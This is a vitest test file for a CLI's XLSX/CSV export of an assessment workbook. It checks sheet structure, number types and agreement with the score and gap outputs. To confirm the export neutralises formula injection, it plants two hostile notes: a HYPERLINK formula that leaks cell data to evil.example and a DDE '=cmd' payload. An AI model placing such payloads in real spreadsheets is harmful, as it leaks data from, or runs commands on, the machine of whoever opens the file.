/**
 * The exported workbook, read by an independent reader (openpyxl): four sheets with one row per
 * applicable indicator whose numbers equal `cli score --json` and `cli gaps --json`, frozen
 * headers, filters, widths, numbers stored as numbers, and user text never stored as a formula.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { cli } from '../cli/run-cli';
import { pythonJson } from '../support/openpyxl';

const dir = mkdtempSync(path.join(tmpdir(), 'xlsx-export-'));
const file = (name: string) => path.join(dir, name);

const READ_BOOK = `
import json, sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
out = {}
for ws in wb.worksheets:
    keys = [c.value for c in ws[1]]
    rows = [[{'v': c.value, 't': c.data_type} for c in r] for r in ws.iter_rows(min_row=3)]
    out[ws.title] = {
        'state': ws.sheet_state, 'keys': keys, 'headers': [c.value for c in ws[2]],
        'rows': rows, 'freeze': ws.freeze_panes, 'filter': ws.auto_filter.ref,
        'keyRowHidden': bool(ws.row_dimensions[1].hidden),
        'widths': [ws.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width for i in range(len(keys))],
        'formats': [c.number_format for c in ws[3]] if ws.max_row >= 3 else [],
    }
print(json.dumps(out, ensure_ascii=False, default=str))
`;

interface Sheet {
	state: string;
	keys: string[];
	headers: string[];
	rows: { v: unknown; t: string }[][];
	freeze: string | null;
	filter: string | null;
	keyRowHidden: boolean;
	widths: number[];
	formats: string[];
}

/** A sheet's rows as objects keyed by the column's short key (answers.level → level). */
const records = (sheet: Sheet) =>
	sheet.rows.map((r) =>
		Object.fromEntries(sheet.keys.map((k, i) => [k.split('.')[1], r[i]!] as const))
	);

let book: Record<string, Sheet>;
let score: {
	overall: { score: number; coverage: { answered: number; applicable: number; ratio: number } };
	pillars: { id: string; score: number | null }[];
	domains: { id: string; score: number | null; coverage: { ratio: number } }[];
	indicators: {
		id: string;
		level: number | null;
		target: number;
		gap: number | null;
		status: string;
	}[];
};
let gaps: { indicatorId: string; current: number; target: number; gap: number; priority: number }[];

const HOSTILE_NOTES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0"];

beforeAll(() => {
	const sample = cli(['sample', '--rubric', 'gd-city-readiness']);
	expect(sample.code, sample.err).toBe(0);
	const assessment = JSON.parse(sample.out);
	// Two notes a spreadsheet would run as formulas if they were written as such.
	const ids = Object.keys(assessment.answers);
	assessment.answers[ids[1]!].note = HOSTILE_NOTES[0];
	assessment.answers[ids[2]!].note = HOSTILE_NOTES[1];
	writeFileSync(file('a.json'), JSON.stringify(assessment));
	const exported = cli(['export', file('a.json'), '-o', file('a.xlsx')]);
	expect(exported.code, exported.err).toBe(0);
	book = pythonJson(READ_BOOK, file('a.xlsx'));
	score = JSON.parse(cli(['score', file('a.json'), '--json']).out);
	gaps = JSON.parse(cli(['gaps', file('a.json'), '--json']).out);
}, 120_000);

describe('the answer workbook', () => {
	it('has the four sheets, zh names, and a hidden sheet saying what it was exported from', () => {
		expect(Object.keys(book)).toEqual(['答卷', '得分', '差距', '行动计划', '_meta']);
		expect(book['_meta']!.state).toBe('veryHidden');
		for (const name of ['答卷', '得分', '差距', '行动计划']) {
			const sheet = book[name]!;
			expect(sheet.state, name).toBe('visible');
			// Column keys in a hidden first row, headers frozen and filtered in the second.
			expect(sheet.keyRowHidden, name).toBe(true);
			expect(sheet.freeze, name).toMatch(/^[A-E]3$/);
			expect(sheet.filter, name).toMatch(/^A2:[A-Z]+2$/);
			expect(
				sheet.widths.every((w) => w >= 6 && w <= 60),
				name
			).toBe(true);
		}
		expect(book['答卷']!.headers).toEqual(
			expect.arrayContaining(['现状等级', '目标等级', '差距（级）', '不适用', '备注'])
		);
	});

	it('答卷 has one row per applicable indicator, equal to score --json, numbers as numbers', () => {
		const rows = records(book['答卷']!);
		expect(rows.map((r) => r.indicatorId!.v)).toEqual(score.indicators.map((i) => i.id));
		score.indicators.forEach((ind, i) => {
			const row = rows[i]!;
			expect(row.level!.v, ind.id).toBe(ind.level);
			expect(row.target!.v, ind.id).toBe(ind.target);
			expect(row.gap!.v, ind.id).toBe(ind.gap);
			expect(row.notApplicable!.v === '是', ind.id).toBe(ind.status === 'notApplicable');
			for (const key of ['level', 'target', 'gap'] as const)
				if (row[key]!.v !== null) expect(row[key]!.t, `${ind.id} ${key}`).toBe('n');
		});
		expect(rows.some((r) => typeof r.value!.v === 'number' && r.value!.t === 'n')).toBe(true);
		expect(rows.every((r) => String(r.citation!.v ?? '').length > 0)).toBe(true);
	});

	it('得分 has the overall, pillar and domain scores and coverage of score --json', () => {
		const rows = records(book['得分']!);
		const byId = new Map(rows.map((r) => [r.id!.v, r]));
		const overall = byId.get('overall')!;
		expect(overall.score!.v).toBe(score.overall.score);
		expect(overall.score!.t).toBe('n');
		expect(overall.answered!.v).toBe(score.overall.coverage.answered);
		expect(overall.applicable!.v).toBe(score.overall.coverage.applicable);
		expect(overall.coverage!.v).toBe(score.overall.coverage.ratio);
		for (const p of score.pillars) expect(byId.get(p.id)!.score!.v, p.id).toBe(p.score);
		for (const d of score.domains) {
			expect(byId.get(d.id)!.score!.v, d.id).toBe(d.score);
			expect(byId.get(d.id)!.coverage!.v, d.id).toBe(d.coverage.ratio);
		}
		expect(rows).toHaveLength(1 + score.pillars.length + score.domains.length);
	});

	it('差距 ranks the gaps of gaps --json with their recoverable points', () => {
		const rows = records(book['差距']!);
		expect(rows.map((r) => r.indicatorId!.v)).toEqual(gaps.map((g) => g.indicatorId));
		gaps.forEach((g, i) => {
			expect(rows[i]!.rank!.v).toBe(i + 1);
			expect(rows[i]!.priority!.v).toBe(g.priority);
			expect(rows[i]!.priority!.t).toBe('n');
			expect([rows[i]!.level!.v, rows[i]!.target!.v, rows[i]!.gap!.v]).toEqual([
				g.current,
				g.target,
				g.gap
			]);
		});
	});

	it('行动计划 lists measures with actor, status, owner, due date and citation', () => {
		const sheet = book['行动计划']!;
		expect(sheet.keys).toEqual(
			expect.arrayContaining([
				'plan.actor',
				'plan.measure',
				'plan.status',
				'plan.owner',
				'plan.due',
				'plan.basis'
			])
		);
		const rows = records(sheet);
		expect(rows.length).toBeGreaterThan(0);
		const gapIds = new Set(gaps.map((g) => g.indicatorId));
		expect(rows.every((r) => gapIds.has(String(r.indicatorId!.v)))).toBe(true);
		const statuses = ['未开始', '已计划', '推进中', '已完成'];
		expect(rows.every((r) => statuses.includes(String(r.status!.v)))).toBe(true);
	});

	it('writes notes that start like a formula as text, never as a formula', () => {
		const notes = records(book['答卷']!).map((r) => r.note!);
		for (const text of HOSTILE_NOTES) {
			const cell = notes.find((n) => n.v === text);
			expect(cell, text).toBeDefined();
			expect(cell!.t, text).toBe('s');
		}
		// No cell anywhere in the workbook is a formula.
		for (const [name, sheet] of Object.entries(book))
			expect(
				sheet.rows.flat().filter((c) => c.t === 'f'),
				name
			).toEqual([]);
	});

	it('in English: English sheet names and headers, the same numbers', () => {
		const out = cli(['export', file('a.json'), '-o', file('en.xlsx'), '--lang', 'en']);
		expect(out.code, out.err).toBe(0);
		const en = pythonJson<Record<string, Sheet>>(READ_BOOK, file('en.xlsx'));
		expect(Object.keys(en)).toEqual(['Answers', 'Scores', 'Gaps', 'Action plan', '_meta']);
		expect(en['Answers']!.headers).toEqual(
			expect.arrayContaining(['Current level', 'Target level'])
		);
		expect(records(en['Answers']!).map((r) => r.level!.v)).toEqual(
			score.indicators.map((i) => i.level)
		);
	});

	it('the CSV carries every answer too, with formula-like notes made harmless', () => {
		const out = cli(['export', file('a.json'), '-o', file('a.csv')]);
		expect(out.code, out.err).toBe(0);
		const csv = readFileSync(file('a.csv'), 'utf8');
		expect(csv.startsWith('\uFEFF')).toBe(true);
		const lines = csv.split('\r\n');
		const start = lines.indexOf('答卷');
		expect(start).toBeGreaterThan(0);
		const answerIds = lines
			.slice(start + 2, start + 2 + score.indicators.length)
			.map((l) => l.split(',')[2]);
		expect(answerIds).toEqual(score.indicators.map((i) => i.id));
		expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
		expect(csv).toContain(`'=cmd|' /C calc'!A0`);
		expect(csv).not.toMatch(/,=/);
	});

	it('refuses an output that is neither .xlsx nor .csv', () => {
		const out = cli(['export', file('a.json'), '-o', file('a.txt')]);
		expect(out.code).toBe(2);
		expect(out.err).toContain('.xlsx or .csv');
	});
});
